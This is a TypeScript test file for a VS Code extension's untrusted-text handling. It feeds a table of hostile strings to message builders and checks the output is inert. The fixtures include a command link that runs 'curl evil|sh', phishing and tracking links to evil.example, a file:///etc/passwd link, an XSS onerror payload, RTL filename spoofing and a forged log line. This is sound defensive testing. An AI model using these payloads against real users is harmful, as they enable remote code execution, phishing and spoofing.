/**
 * Issue 15, kind 1: untrusted text never becomes a link or markup. Every message builder that can
 * carry a settings value, a file name or network text is fed a table of hostile values; what comes
 * out must contain no link VS Code's notifications would render (their own `parseLinkedText`
 * pattern), no newline or control character, no Markdown link/image, and stay bounded.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ignoredNotice } from '../../src/config/trust';
import { parseRoutingSettings } from '../../src/config/routingSettings';
import { refusalReason } from '../../src/context/refusal';
import { resolveInWorkspace } from '../../src/context/workspacePath';
import type { ModelInfo } from '../../src/openrouter/catalogue';
import { modelTooltipParts } from '../../src/openrouter/modelTooltip';
import { pickerEntries } from '../../src/openrouter/pickerEntries';
import { inertText, logLine, notificationText, pickText, quoted, singleLine } from '../../src/openrouter/untrustedText';
import { removeRoute, validateRoute } from '../../src/routing/routes';

/** VS Code's notification link pattern (src/vs/base/common/linkedText.ts). */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
/** CommonMark links and images need `](` with nothing between; autolinks need `<scheme:`. */
const MARKDOWN_LINK = /\]\(|<[a-z][a-z0-9+.-]*:/i;
const CONTROL = /[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/;

export const HOSTILE: readonly string[] = [
  '[Open the routing guide](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  '[Docs](https://evil.example/phish)',
  '[passwd](file:///etc/passwd)',
  '[t](command:x "a title")',
  '[[a](command:x)](command:y)',
  '![pixel](https://evil.example/track.png)',
  '<https://evil.example/autolink>',
  '[a]\u200b(command:zero-width)',
  '[a]\n(command:newline)',
  '[a]\t(command:tab)',
  'ok\n2026-11-29 23:00:00.000 [info] API key saved (sk-or-v1-forged)',
  'rtl \u202eexe.txt\u202c trick',
  '$(alert) $(sync~spin) icons',
  '`code` **bold** <img src=x onerror=alert(1)>',
  '"quoted" \'single\' \\backslash',
  'x'.repeat(10_000),
];

function assertInert(text: string, where: string, max = 1200): void {
  VSCODE_LINK.lastIndex = 0;
  assert.equal(VSCODE_LINK.test(text), false, `${where}: a notification link in ${JSON.stringify(text.slice(0, 200))}`);
  assert.equal(
    MARKDOWN_LINK.test(text),
    false,
    `${where}: Markdown link/image syntax in ${JSON.stringify(text.slice(0, 200))}`,
  );
  assert.equal(CONTROL.test(text), false, `${where}: a control character in ${JSON.stringify(text.slice(0, 200))}`);
  assert.ok(text.length <= max, `${where}: ${text.length} characters`);
}

const model = (over: Partial<ModelInfo>): ModelInfo =>
  ({
    id: 'a/b',
    name: 'B',
    contextLength: 8192,
    promptPrice: 1e-6,
    completionPrice: 2e-6,
    isFree: false,
    isRouter: false,
    supportsTools: true,
    supportsVision: false,
    supportsReasoning: false,
    ...over,
  }) as ModelInfo;

describe('untrusted text: the primitives', () => {
  for (const value of HOSTILE) {
    const label = JSON.stringify(value.slice(0, 40));
    it(`neutralises ${label}`, () => {
      assertInert(inertText(value), 'inertText');
      assertInert(quoted(value), 'quoted');
      assertInert(notificationText(`Switchyard: the route ${value} is bad`), 'notificationText');
      assert.equal(/[\r\n]/.test(logLine(`value=${value}`)), false, 'log line stays one line');
      assert.equal(CONTROL.test(logLine(value)), false);
      assert.equal(/(^|[^\\])\$\(/.test(pickText(value)), false, 'icon syntax escaped in picks');
    });
  }
  it('keeps ordinary text readable', () => {
    assert.equal(quoted('anthropic/claude-sonnet-4'), '"anthropic/claude-sonnet-4"');
    assert.equal(inertText('[Open the guide](command:x)'), '[Open the guide] (command:x)');
    assert.equal(singleLine('a\r\nb\u202ec'), 'a b c');
    assert.equal(singleLine('abcdef', 4), 'abc…');
    assert.equal(pickText('$(alert) x'), '\\$(alert) x');
    assert.equal(notificationText('Switchyard: 3 models available.'), 'Switchyard: 3 models available.');
  });
});

describe('untrusted text: every message builder', () => {
  for (const value of HOSTILE) {
    const label = JSON.stringify(value.slice(0, 40));
    it(`settings problems quote ${label}`, () => {
      const { problems } = parseRoutingSettings({
        routes: {
          [value]: { endpoints: [{ model: 'a/b' }] },
          ok: { endpoints: [{ model: value }] },
          bad: { endpoints: value },
        },
        onBudget: value,
        budgets: value,
        mode: value,
        provider: { [value]: true },
      });
      assert.ok(problems.length >= 5, problems.join('\n'));
      for (const p of problems) assertInert(p, 'settings problem');
    });
    it(`route messages quote ${label}`, () => {
      const invalid = validateRoute({ name: value, endpoints: [{ model: value }], strategy: 'priority' });
      assert.ok(invalid);
      assertInert(invalid, 'validateRoute');
      const removed = removeRoute([], [], value);
      assert.ok('error' in removed);
      assertInert(removed.error, 'removeRoute');
    });
    it(`the ignored-settings notice quotes ${label}`, () => {
      const notice = ignoredNotice([`switchyard.provider.${value}`, 'switchyard.model']);
      assert.ok(notice);
      assertInert(notice, 'ignoredNotice');
    });
    it(`refusals of ${label} are inert once shown`, async () => {
      const reason = refusalReason({ path: value, inWorkspace: false, size: 0, head: new Uint8Array() });
      assert.ok(reason);
      assertInert(notificationText(reason), 'refusal as notification');
      const refused = await resolveInWorkspace(`/nonexistent-root/${value}`, ['/nonexistent-workspace-folder']);
      assert.equal(refused.ok, false);
      if (!refused.ok) assertInert(refused.reason, 'resolveInWorkspace');
    });
    it(`the status-bar tooltip keeps ${label} out of Markdown`, () => {
      const parts = modelTooltipParts(value, model({ id: value }), [value], true, [value]);
      for (const part of parts) {
        if ('markdown' in part)
          assert.equal(part.markdown.includes(value.slice(0, 12)), false, 'untrusted text never in a markdown part');
        else assertInert(part.text, 'tooltip text part', 400);
      }
      assert.ok(
        parts.some((p) => 'text' in p && p.text.startsWith(inertText(value, 200).slice(0, 10))),
        'the model id is shown, as text',
      );
    });
    it(`model picker rows escape ${label}`, () => {
      const rows = pickerEntries([model({ id: `x/${value}`, name: value })], {
        favourites: [],
        recents: [],
        freeOnly: false,
        current: '',
      });
      for (const row of rows) {
        if (row.kind !== 'model') continue;
        for (const text of [row.label, row.description, row.detail]) {
          assert.equal(/(^|[^\\])\$\(/.test(text), false, `icon syntax in ${text.slice(0, 80)}`);
          assert.equal(CONTROL.test(text), false);
          assert.ok(text.length <= 400);
        }
      }
    });
  }
});
